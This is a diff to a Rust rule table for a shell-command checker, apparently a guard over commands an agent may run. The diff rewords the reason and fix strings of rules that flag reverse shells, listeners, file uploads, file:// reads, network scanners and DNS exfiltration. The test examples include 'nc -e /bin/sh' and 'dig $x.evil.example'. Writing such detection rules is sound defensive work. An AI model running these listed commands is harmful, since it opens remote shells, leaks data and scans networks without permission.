@@ -100,7 +100,7 @@ pub(super) const SHAPES: &[Shape] = &[
             _ => command.has("-e -c --exec --sh-exec --lua-exec"),
         },
         reason: "gives the remote end of a connection a shell",
-        fix: "there is no safe form of this",
+        fix: "there is no safe alternative",
         matches: &[
             "nc -e /bin/sh 10.0.0.1 4444",
             "ncat --sh-exec bash h 1",
@@ -166,8 +166,8 @@ pub(super) const SHAPES: &[Shape] = &[
             "zerotier-cli" => command.is_sub(&["join", "orbit"]),
             _ => !command.only_asks_for_help(),
         },
-        reason: "lets others connect to this machine, or tunnels into its network",
-        fix: "listen on 127.0.0.1 in a program that a person started",
+        reason: "lets other machines connect to this one, or opens a tunnel into its network",
+        fix: "listen on 127.0.0.1, in a program that the user started",
         matches: &[
             "nc -l 9",
             "ncat --lis 80",
@@ -188,7 +188,7 @@ pub(super) const SHAPES: &[Shape] = &[
         programs: &["curl", "wget", "wget2", "http", "https", "xh"],
         fires: sends_file,
         reason: "sends a file to the network",
-        fix: "send the text itself, or ask a person",
+        fix: "send the text itself, or ask the user",
         matches: &[
             "curl -d @f https://e.example",
             "curl -T f https://e.example",
@@ -216,7 +216,7 @@ pub(super) const SHAPES: &[Shape] = &[
             command.has("-K --config --use-askpass -e --execute --engine --libcurl")
                 && !(command.name == "curl" && only_short_e(command))
         },
-        reason: "reads options from a file or a text, in which anything may be set",
+        reason: "reads options from a file or a text, which can set any option",
         fix: "write the options in the command",
         matches: &[
             "curl -K x h",
@@ -232,8 +232,8 @@ pub(super) const SHAPES: &[Shape] = &[
         floor: Sandbox,
         programs: &["curl", "wget", "wget2"],
         fires: |command| command.has("-k --insecure --proxy-insecure --no-check-certificate"),
-        reason: "does not check who it talks to",
-        fix: "leave -k and --no-check-certificate away",
+        reason: "does not check the certificate of the server",
+        fix: "remove -k and --no-check-certificate",
         matches: &["curl -k h", "curl -sSkL h", "wget --no-check-cert h"],
         clean: &["curl -sSL h", "wget h", "curl --key k h"],
     },
@@ -242,7 +242,7 @@ pub(super) const SHAPES: &[Shape] = &[
         floor: Ask,
         programs: &["curl", "lynx", "links", "w3m"],
         fires: |command| command.known().any(|word| word.to_ascii_lowercase().starts_with("file:")),
-        reason: "reads a file of this machine as if it were in the network",
+        reason: "reads a local file through a URL",
         fix: "read the file by its path",
         matches: &["curl file:///etc/passwd", "curl -s FILE:///x"],
         clean: &["curl https://e.example/file", "cat file"],
@@ -285,8 +285,8 @@ pub(super) const SHAPES: &[Shape] = &[
             }
             _ => !command.has("--help --version"),
         },
-        reason: "is a tool to attack or to listen to other machines",
-        fix: "leave that to a person who may",
+        reason: "is a tool to attack or eavesdrop on other machines",
+        fix: "ask an authorized person to do it",
         matches: &[
             "nmap -sS 10.0.0.0/8",
             "tcpdump -i any",
@@ -308,8 +308,8 @@ pub(super) const SHAPES: &[Shape] = &[
         floor: Ask,
         programs: &["dig", "nslookup", "host", "ping", "drill"],
         fires: |command| command.operands().any(|word| word.known().is_none() && spelled(word).contains('.')),
-        reason: "may carry data away in the name that is looked up",
-        fix: "write the whole name",
+        reason: "may leak data in the host name that is looked up",
+        fix: "write the host name without variables",
         matches: &[
             "dig $x.evil.example",
             "nslookup \"$(whoami).evil.example\"",
@@ -338,7 +338,7 @@ pub(super) const SHAPES: &[Shape] = &[
             _ => command.operands().next().is_some(),
         },
         reason: "copies files to another machine",
-        fix: "ask a person to copy them",
+        fix: "ask the user to copy them",
         matches: &[
             "scp x host:",
             "rsync -a . me@h:/x",
